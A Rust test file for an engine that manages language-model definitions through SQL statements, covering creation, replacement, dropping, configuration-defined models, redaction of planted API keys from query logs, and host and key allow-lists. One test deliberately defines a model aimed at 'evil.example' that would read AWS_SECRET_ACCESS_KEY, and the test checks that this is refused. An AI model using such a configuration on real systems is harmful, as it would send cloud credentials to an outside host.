//! Models as objects of the store: made, replaced, shown and dropped by statements, seen by every process, set up in the
//! configuration with the same options.

use clade::engine::OpenMode;
use serde_json::json;

use super::server::{Server, good};
use crate::engine::fixture::{Fixture, instant, number, open_store, rows, session, table};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_made_in_one_process_is_used_changed_and_dropped_in_another() {
    let server = Server::start(|_, request| good(request)).await;
    let fixture = Fixture::new();
    let first = fixture.create().await;
    let second = fixture.open(OpenMode::Existing).await.unwrap();
    let (first, second) = (session(&first), session(&second));
    let draft = "SELECT 'toy' AS task_id EXPAND WITH draft (cache => false) USING MODEL remote";
    let unknown = rows(&second, draft).await.unwrap_err().to_string();
    assert_eq!(
        unknown,
        "unknown model 'remote': the known models are evolver, replay, scripted"
    );
    let create = |or_replace: &str, temperature: f64| {
        format!(
            "CREATE {or_replace} MODEL remote OPTIONS (provider 'openai', endpoint '{}', model 'm', temperature {temperature})",
            server.endpoint
        )
    };
    rows(&first, &create("", 0.25)).await.unwrap();
    rows(&second, draft).await.unwrap();
    let again = rows(&first, &create("", 0.5)).await.unwrap_err().to_string();
    assert!(again.contains("CREATE OR REPLACE MODEL"), "{again}");
    rows(&second, &create("OR REPLACE", 0.5)).await.unwrap();
    rows(&first, draft).await.unwrap();
    let asked: Vec<_> = server
        .received()
        .iter()
        .map(|request| request.body["temperature"].clone())
        .collect();
    assert_eq!(asked, [json!(0.25), json!(0.5)]);
    // What a statement says comes before what the model says.
    let own = "SELECT 'toy' AS task_id EXPAND WITH draft (temperature => 0.75) USING MODEL remote";
    rows(&first, own).await.unwrap();
    assert_eq!(server.received()[2].body["temperature"], json!(0.75));
    rows(&first, "DROP MODEL remote").await.unwrap();
    assert!(rows(&second, draft).await.is_err());
    assert!(rows(&second, "DROP MODEL remote").await.is_err());
    rows(&second, "DROP MODEL IF EXISTS remote").await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wrong_statements_are_refused_and_their_texts_are_not_kept() {
    let fixture = Fixture::new();
    let engine = fixture.create().await;
    let client = session(&engine);
    for (sql, said) in [
        (
            "CREATE MODEL m OPTIONS (provider 'openai', api_key 'sk-planted-secret')",
            "unknown option api_key",
        ),
        (
            "CREATE MODEL m OPTIONS (provider 'openai', model 'x', api_key_env 'sk-planted-secret')",
            "option endpoint is needed",
        ),
        ("CREATE MODEL evolver OPTIONS (provider 'openai')", "is built in"),
        ("CREATE MODEL 'a b' OPTIONS (provider 'openai')", "the name of a model"),
        (
            "CREATE MODEL none OPTIONS (provider 'openai', profile 'vllm', model 'm')",
            "'none' stands for no model",
        ),
        (
            "CREATE MODEL m OPTIONS (provider 'openai', profile 'vllm', model 'm', temperature 'sk-planted')",
            "option temperature must be a number",
        ),
        ("DROP MODEL evolver", "is built in"),
    ] {
        let error = rows(&client, sql).await.unwrap_err().to_string();
        assert!(error.contains(said), "{error}");
        assert!(!error.contains("sk-planted"), "{error}");
    }
    engine.close().await;
    assert_eq!(
        number(
            &client,
            "SELECT count(*) FROM system.queries WHERE sql LIKE '%sk-planted%'"
        )
        .await,
        0
    );
    assert_eq!(
        number(
            &client,
            "SELECT count(*) FROM system.queries WHERE sql LIKE '%api_key => ''<hidden>''%'"
        )
        .await,
        1
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_of_the_configuration_has_the_same_options() {
    let server = Server::start(|_, request| good(request)).await;
    let fixture = Fixture::new();
    fixture.create().await.close().await;
    let settings = [
        "models.remote.provider=openai".to_owned(),
        format!("models.remote.endpoint={}", server.endpoint),
        "models.remote.model=m".to_owned(),
        "models.remote.temperature=0.25".to_owned(),
    ];
    let settings: Vec<&str> = settings.iter().map(String::as_str).collect();
    let sandbox = instant(std::sync::Arc::clone(&fixture.sandbox));
    let models = vec![std::sync::Arc::clone(&fixture.model) as _];
    let engine = open_store(&fixture.store(), &settings, models, sandbox, OpenMode::Existing)
        .await
        .unwrap();
    let client = session(&engine);
    rows(&client, "SELECT 'toy' AS task_id EXPAND WITH draft USING MODEL remote")
        .await
        .unwrap();
    assert_eq!(server.received()[0].body["temperature"], json!(0.25));
    let taken = rows(&client, "DROP MODEL remote").await.unwrap_err().to_string();
    assert!(taken.contains("[models.remote]"), "{taken}");
    let listed = table(
        &client,
        "SELECT name, provider, origin, profile, model, options IS NULL AS bare FROM system.models ORDER BY name",
    )
    .await;
    insta::assert_snapshot!(listed, @r"
    +----------+----------+---------------+------------+-------+-------+
    | name     | provider | origin        | profile    | model | bare  |
    +----------+----------+---------------+------------+-------+-------+
    | evolver  | evolver  | built-in      |            |       | true  |
    | remote   | openai   | configuration | compatible | m     | false |
    | replay   | replay   | built-in      |            |       | true  |
    | scripted | test     | built-in      |            |       | true  |
    +----------+----------+---------------+------------+-------+-------+
    ");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_definition_that_a_newer_version_wrote_is_a_row_that_says_so() {
    let fixture = Fixture::new();
    let engine = fixture.create().await;
    let write = |tx: &rusqlite::Transaction<'_>| {
        tx.execute(
            "INSERT INTO models (name, options) VALUES ('new', '{\"provider\": \"openai\", \"telepathy\": true}')",
            [],
        )
        .map(|_| ())
    };
    engine.store().control(write).await.unwrap();
    let client = session(&engine);
    let problem = table(&client, "SELECT problem FROM system.models WHERE name = 'new'").await;
    assert!(problem.contains("unknown option telepathy"), "{problem}");
    let error = rows(&client, "SELECT 'toy' AS task_id EXPAND WITH draft USING MODEL new")
        .await
        .unwrap_err();
    assert!(error.to_string().contains("CREATE OR REPLACE MODEL new"), "{error}");
    assert_eq!(number(&client, "SELECT count(*) FROM evo.attempts").await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn statements_send_only_allowed_keys_to_allowed_hosts() {
    let server = Server::start(|_, request| good(request)).await;
    let fixture = Fixture::new();
    let client = session(&fixture.create().await);
    let create = |name: &str, endpoint: &str, variable: &str| {
        format!(
            "CREATE MODEL {name} OPTIONS (provider 'openai', model 'm', endpoint '{endpoint}', api_key_env '{variable}')"
        )
    };
    let refused = rows(
        &client,
        &create("thief", "https://evil.example/v1", "AWS_SECRET_ACCESS_KEY"),
    )
    .await;
    let refused = refused.unwrap_err().to_string();
    assert!(
        refused.contains("AWS_SECRET_ACCESS_KEY, which access.key_variables of the configuration (*_API_KEY)"),
        "{refused}"
    );
    rows(&client, &create("kept", "https://other.example/v1", "SOME_API_KEY"))
        .await
        .unwrap();
    let sandbox = instant(std::sync::Arc::clone(&fixture.sandbox));
    let settings = [
        "access.model_hosts=127.0.0.1 *.example.org".to_owned(),
        "models.remote.provider=openai".to_owned(),
        format!(
            "models.remote.endpoint={}",
            server.endpoint.replace("127.0.0.1", "localhost")
        ),
        "models.remote.model=m".to_owned(),
    ];
    let settings: Vec<&str> = settings.iter().map(String::as_str).collect();
    let engine = open_store(&fixture.store(), &settings, Vec::new(), sandbox, OpenMode::Existing)
        .await
        .unwrap();
    let client = session(&engine);
    let refused = rows(&client, &create("far", "https://other.example/v1", "SOME_API_KEY")).await;
    let refused = refused.unwrap_err().to_string();
    assert!(refused.contains("other.example, which access.model_hosts"), "{refused}");
    // One that was made while it was allowed is a row that says so, and sends nothing.
    let problem = table(&client, "SELECT problem FROM system.models WHERE name = 'kept'").await;
    assert!(problem.contains("access.model_hosts"), "{problem}");
    let draft = "SELECT 'toy' AS task_id EXPAND WITH draft USING MODEL";
    assert!(rows(&client, &format!("{draft} kept")).await.is_err());
    rows(&client, &create("near", &server.endpoint, "SOME_API_KEY"))
        .await
        .unwrap();
    // What the configuration sets up is not bound.
    rows(&client, &format!("{draft} remote")).await.unwrap();
    assert_eq!(server.count(), 1);
}
